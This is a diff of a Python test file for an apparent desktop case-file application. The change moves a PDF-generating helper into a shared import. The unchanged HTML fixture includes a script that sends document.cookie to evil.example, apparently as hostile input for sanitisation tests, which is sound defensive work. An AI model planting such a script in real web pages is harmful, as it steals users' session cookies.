@@ -11,7 +11,6 @@ from pypdf import PdfReader, PdfWriter
 from PySide6.QtCore import QMimeData, QPointF, Qt, QUrl
 from PySide6.QtGui import QDropEvent
 from pytestqt.qtbot import QtBot
-from reportlab.pdfgen import canvas
 
 from casefile.domain.errors import CasefileError
 from casefile.domain.kinds import Kind
@@ -23,6 +22,7 @@ from casefile.ui.dialogs.errors import ErrorDialog
 from casefile.ui.dialogs.source_file import SourceReviewDialog
 from casefile.ui.main_window import MainWindow
 from casefile.ui.reader import ReaderDialog
+from tests.jobs.test_source_files import _pdf
 from tests.ui.conftest import open_case, type_text
 
 PAGE = """<!DOCTYPE html><html lang="ru"><head><meta charset="utf-8">
@@ -33,17 +33,6 @@ PAGE = """<!DOCTYPE html><html lang="ru"><head><meta charset="utf-8">
 <script>fetch('https://evil.example/?' + document.cookie)</script></head><body>
 <p>Президент России <b>прибыл</b> в Монголию.</p>
 <p>Монголия — участник Римского статута с 2002 года; בית הדין 国际刑事法院 المحكمة.</p></body></html>"""
-
-
-def _pdf(pages: list[str]) -> bytes:
-    buffer = io.BytesIO()
-    c = canvas.Canvas(buffer)
-    c.setTitle("Report on non-compliance")
-    for text in pages:
-        c.drawString(72, 720, text)
-        c.showPage()
-    c.save()
-    return buffer.getvalue()
 
 
 def _counts(path: Path) -> dict[Kind, int]:
